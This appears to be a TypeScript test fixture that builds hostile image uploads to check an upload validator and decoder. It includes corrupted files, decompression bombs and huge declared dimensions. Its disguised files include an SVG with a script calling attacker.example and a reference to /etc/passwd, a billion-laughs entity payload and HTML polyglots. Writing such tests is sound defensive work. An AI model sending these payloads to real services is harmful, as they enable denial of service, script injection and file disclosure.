import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import type { DecodedType } from '../../src/platform/images/detect-type.ts'
import { mebibyte } from '../../src/platform/units.ts'
import { scaled } from '../faults/scale.ts'
import { seededRandom } from '../seeded-random.ts'
import { pngChunk, pngFile } from './png-file.ts'

/** `refused`: by the upload. `failed`: by the decoder. `made`: harmless. `any`: one of them. */
export type HostileFile = {
  name: string
  declared: DecodedType
  content: Buffer
  expected: 'refused' | 'failed' | 'made' | 'any'
}

const formats = ['jpeg', 'png', 'webp', 'gif', 'avif'] as const
const zeros = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 1 })
const red = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: 'red' } })

/** Files with a correct header whose other bytes are random, missing or replaced. */
export async function brokenFiles(seed: number, perFormat: number): Promise<HostileFile[]> {
  const random = seededRandom(seed)
  const files: HostileFile[] = []
  for (const format of formats) {
    const whole = await red(120, 90)
      .composite([{ input: textured, blend: 'over' }])
      .toFormat(format)
      .toBuffer()
    for (let index = 0; index < perFormat; index += 1) {
      const content = Buffer.from(whole)
      const bytes = random.between(1, 40)
      for (let one = 0; one < bytes; one += 1)
        content[random.between(12, content.length - 1)] = random.between(0, 255)
      const end = random.chance(0.3) ? random.between(12, content.length) : content.length
      files.push({
        name: `broken ${format} ${index}`,
        declared: `image/${format}`,
        content: content.subarray(0, end),
        expected: 'any',
      })
    }
  }
  return files
}

// 7,000 by 7,000 red pixels in 36 bytes.
const largeWebp = Buffer.from(
  '524946461c000000574542505650384c0f0000002f57dbd5060710fd8ffe0722a2ff0100',
  'hex',
)
const textured = Buffer.from(
  '<svg width="120" height="90"><circle cx="60" cy="45" r="40" fill="teal"/><path d="M0 0L120 90" stroke="white"/></svg>',
)

/** Small files that would be large images, and headers that promise them. */
export async function bombs(): Promise<HostileFile[]> {
  const jpeg = await red(64, 64).jpeg().toBuffer()
  const gif = await red(64, 64).gif().toBuffer()
  const avif = await red(64, 64).avif().toBuffer()
  const small = pngFile({ width: 64, height: 64 })
  const zeros128 = zeros(128 * mebibyte)
  return [
    file('png header of 3.6 gigapixels', 'png', patched(small, 16, 60_000, 60_000), 'refused'),
    file('png header of the largest size', 'png', patched(small, 16, 0x7fff_ffff, 0x7fff_ffff), 'refused'),
    file('png of 49 megapixels', 'png', pngFile({ width: 7_000, height: 7_000 }), 'made'),
    file(
      'png with fewer pixels than promised',
      'png',
      pngFile({ width: 6_000, height: 6_000, data: zeros(100) }),
      'failed',
    ),
    file(
      'png with a compressed text of 128 MiB',
      'png',
      pngFile({ width: 64, height: 64, chunks: [compressedChunk('zTXt', zeros128)] }),
      'any',
    ),
    file(
      'png with a color profile of 128 MiB',
      'png',
      pngFile({ width: 64, height: 64, chunks: [compressedChunk('iCCP', zeros128)] }),
      'any',
    ),
    file('jpeg header of 4 gigapixels', 'jpeg', sizedJpeg(jpeg, 65_500, 65_500), 'refused'),
    file('jpeg header of 49 megapixels', 'jpeg', sizedJpeg(jpeg, 7_000, 7_000), 'any'),
    file('jpeg with 500 scans', 'jpeg', await manyScans(scaled(1_000, 2_000), 500), 'any'),
    file('webp canvas of 281 terapixels', 'webp', extendedWebp(0xff_ffff, 0xff_ffff), 'refused'),
    file('lossless webp of 49 megapixels', 'webp', largeWebp, 'made'),
    file('gif screen of 4 gigapixels', 'gif', patchedGif(gif, 65_535, 65_535), 'refused'),
    file('gif screen of 49 megapixels', 'gif', patchedGif(gif, 7_000, 7_000), 'any'),
    file('gif frame larger than its screen', 'gif', largeFrame(gif, 65_535, 65_535), 'any'),
    file('gif with 100,000 frames', 'gif', manyFrames(gif, 100_000), 'any'),
    file('avif extent of 3.6 gigapixels', 'avif', resizedAvif(avif, 60_000, 60_000), 'refused'),
    file('avif extent that differs from its image', 'avif', resizedAvif(avif, 7_000, 7_000), 'any'),
  ]
}

/** Text, other formats and mixtures that claim to be images. */
export async function disguises(): Promise<HostileFile[]> {
  const script = '<script>fetch("//attacker.example")</script>'
  const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}<image href="file:///etc/passwd"/></svg>`
  const laughs = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${'abcdefghij'[level + 1]} "${`&${'abcdefghij'[level]};`.repeat(10)}">`).join('')}]><svg><text>&j;</text></svg>`
  const jpeg = await red(64, 64).jpeg().toBuffer()
  const zip = Buffer.from('504b03040a0000000000', 'hex')
  return [
    ...formats.map((format) => file(`svg as ${format}`, format, Buffer.from(svg), 'refused')),
    file('svg with an XML declaration', 'png', Buffer.from(`<?xml version="1.0"?>${svg}`), 'refused'),
    file('svg after a byte order mark', 'png', Buffer.from(`\uFEFF${svg}`), 'refused'),
    file('compressed svg', 'png', gzipSync(svg), 'refused'),
    file('svg with nested entities', 'png', Buffer.from(laughs), 'refused'),
    file('html', 'jpeg', Buffer.from(`<!doctype html>${script}`), 'refused'),
    file('html after a gif signature', 'gif', Buffer.from(`GIF89a/*${script}*/=1;${' '.repeat(64)}`), 'any'),
    file(
      'html after a jpeg signature',
      'jpeg',
      Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(script)]),
      'refused',
    ),
    file('jpeg followed by a zip file', 'jpeg', Buffer.concat([jpeg, zip]), 'made'),
    file(
      'jpeg with a script as its comment',
      'jpeg',
      Buffer.concat([jpeg.subarray(0, 2), jpegSegment(0xfe, Buffer.from(script)), jpeg.subarray(2)]),
      'made',
    ),
    file('nothing', 'png', Buffer.alloc(0), 'refused'),
    file('only a png signature', 'png', Buffer.from('89504e470d0a1a0a', 'hex'), 'refused'),
  ]
}

function file(
  name: string,
  format: (typeof formats)[number],
  content: Buffer,
  expected: HostileFile['expected'],
): HostileFile {
  return { name, declared: `image/${format}`, content, expected }
}

function patched(content: Buffer, at: number, width: number, height: number): Buffer {
  const copy = Buffer.from(content)
  copy.writeUInt32BE(width, at)
  copy.writeUInt32BE(height, at + 4)
  return copy
}

function compressedChunk(type: 'zTXt' | 'iCCP', content: Buffer): Buffer {
  return pngChunk(type, Buffer.concat([Buffer.from('name\0\0'), content]))
}

function jpegSegment(marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([head, content])
}

function sizedJpeg(content: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(content)
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]))
  copy.writeUInt16BE(height, frame + 5)
  copy.writeUInt16BE(width, frame + 7)
  return copy
}

/** Repeats the last scan of a progressive image. Each one costs as much as all pixels. */
async function manyScans(side: number, scans: number): Promise<Buffer> {
  const whole = await red(side, side).jpeg({ progressive: true }).toBuffer()
  const last = whole.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = whole.subarray(last, -2)
  return Buffer.concat([whole.subarray(0, last), ...Array<Buffer>(scans).fill(scan), whole.subarray(-2)])
}

function extendedWebp(width: number, height: number): Buffer {
  const content = Buffer.alloc(64)
  content.write('RIFF', 0, 'latin1')
  content.writeUInt32LE(56, 4)
  content.write('WEBPVP8X', 8, 'latin1')
  content.writeUInt32LE(10, 16)
  content.writeUIntLE(width, 24, 3)
  content.writeUIntLE(height, 27, 3)
  return content
}

function patchedGif(content: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(content)
  copy.writeUInt16LE(width, 6)
  copy.writeUInt16LE(height, 8)
  return copy
}

function frameStart(content: Buffer): number {
  return content.indexOf(Buffer.from([0x2c, 0, 0, 0, 0, 64, 0, 64, 0]))
}

function largeFrame(content: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(content)
  const start = frameStart(content)
  copy.writeUInt16LE(width, start + 5)
  copy.writeUInt16LE(height, start + 7)
  return copy
}

function manyFrames(content: Buffer, frames: number): Buffer {
  const start = frameStart(content)
  const frame = content.subarray(start, -1)
  return Buffer.concat([
    content.subarray(0, start),
    ...Array<Buffer>(frames).fill(frame),
    content.subarray(-1),
  ])
}

function resizedAvif(content: Buffer, width: number, height: number): Buffer {
  return patched(content, content.indexOf('ispe') + 8, width, height)
}
